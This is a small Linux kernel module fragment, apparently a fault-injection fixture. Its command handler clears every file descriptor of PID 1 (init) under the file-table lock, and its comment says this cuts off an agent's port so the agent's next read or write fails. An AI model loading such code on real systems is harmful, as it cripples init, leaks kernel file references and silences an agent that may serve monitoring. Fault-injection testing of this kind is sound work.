// Takes the files of PID 1 away, the agent's port among them: the next read or write of the agent fails.
// SPDX-License-Identifier: GPL-2.0
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched/signal.h>

#define on_command on_command
static ssize_t on_command(const char __user *buf, size_t len)
{
	struct task_struct *init = get_pid_task(find_vpid(1), PIDTYPE_PID);
	struct fdtable *table;
	unsigned int fd;

	spin_lock(&init->files->file_lock);
	table = files_fdtable(init->files);
	/* The agent waits in poll() with a reference: the file itself stays until that returns. */
	for (fd = 0; fd < table->max_fds; fd++)
		rcu_assign_pointer(table->fd[fd], NULL);
	spin_unlock(&init->files->file_lock);
	put_task_struct(init);
	return len;
}
